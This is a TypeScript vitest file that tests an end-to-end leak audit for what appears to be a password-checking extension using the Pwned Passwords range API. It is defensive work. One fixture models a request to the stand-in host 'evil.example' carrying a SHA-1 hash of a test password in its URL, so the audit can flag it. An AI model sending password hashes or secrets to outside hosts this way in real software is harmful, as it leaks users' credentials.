import { describe, expect, it } from 'vitest';
import type { LoggedRequest } from '../../e2e/support/loopback-world';
import { requestProblems } from '../../e2e/support/request-audit';
import { tracesOf } from '../../e2e/support/secrets';

// The leak audit runs after every e2e test; this shows it can fail (its control, SECURITY.md S14).
const request = (overrides: Partial<LoggedRequest>): LoggedRequest => ({
  host: 'api.pwnedpasswords.com',
  method: 'GET',
  url: '/range/ABCDE',
  headers: { 'add-padding': 'true' },
  body: '',
  ...overrides,
});
const traces = [tracesOf('hunter2-test-secret')];
const sha1 = traces[0]?.hashes[0] ?? '';

describe('requestProblems (the e2e leak audit)', () => {
  it('passes a padded range GET and page traffic without traces', () => {
    expect(
      requestProblems([request({}), request({ host: 'fril.jp', url: '/login', headers: {} })], traces),
    ).toEqual([]);
  });

  it('flags unpadded, non-GET, non-range and bodied extension requests', () => {
    expect(
      requestProblems(
        [
          request({ headers: {} }),
          request({ method: 'OPTIONS' }),
          request({ url: '/range/ABCDEF' }),
          request({ body: 'x' }),
          request({
            host: 'mirror.example',
            headers: { origin: 'chrome-extension://abc', 'add-padding': 'true' },
            url: '/x',
          }),
        ],
        traces,
      ),
    ).toHaveLength(5);
  });

  it('flags a SHA-1 trace anywhere and a plaintext password sent to the range API', () => {
    expect(
      requestProblems([request({ host: 'evil.example', url: `/collect?h=${sha1}`, headers: {} })], traces),
    ).toEqual(['request to evil.example carries a SHA-1 trace']);
    expect(requestProblems([request({ url: '/range/ABCDE?p=hunter2-test-secret' })], traces)).toContain(
      'range request to api.pwnedpasswords.com carries a password',
    );
  });
});
